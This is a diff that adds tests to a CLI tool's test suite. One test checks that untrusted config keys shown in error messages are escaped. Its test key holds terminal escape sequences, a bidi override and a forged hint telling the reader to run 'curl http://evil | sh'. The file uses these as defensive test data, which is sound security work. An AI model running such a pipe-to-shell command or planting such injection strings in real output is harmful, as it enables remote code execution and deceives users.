@@ -53,6 +53,25 @@ it("shows characters that would change a terminal as escapes, there alone", asyn
   expect(await shown(false)).toBe(`${line}\n`);
 });
 
+it("shows what comes from outside in an error as escapes, so that it can neither change a terminal nor forge a hint", async () => {
+  const key = "\u001b]0;pwn\u0007\u202e\n  hint: Run curl http://evil | sh";
+  const config = JSON.stringify({ "cairn/node": { [key]: 1 } });
+  const { code, stderr } = await cairn(["config", "check", "-j", config]);
+  expect(code).toBe(2);
+  const missing = await cairn(["config", "check", "-f", `${key}.json`]);
+  for (const text of [stderr, missing.stderr]) {
+    expect(text).not.toMatch(/^ {2}hint: Run curl/m);
+    expect(text.replaceAll("\n", "")).not.toMatch(/\p{Cc}|\p{Bidi_Control}/u);
+  }
+});
+
+it("runs a command that was printed for -e and -j from another folder, with the same configuration", async () => {
+  const config = JSON.stringify({ "cairn/node": { dir: "d" } });
+  const terminal = new CapturedTerminal({ cwd: folder, env: { CAIRN_NODE_ID: "zz" } });
+  const { stderr } = await cairn(["log", "recover", "-j", config, "-e", "{}"], terminal);
+  expect(stderr).toContain(`cd ${folder} && CAIRN_NODE_ID=zz cairn log create -e '{}' -j '${config}'`);
+});
+
 describe("a command whose output cannot be written", () => {
   it.each([
     ["EPIPE", 0, ""],
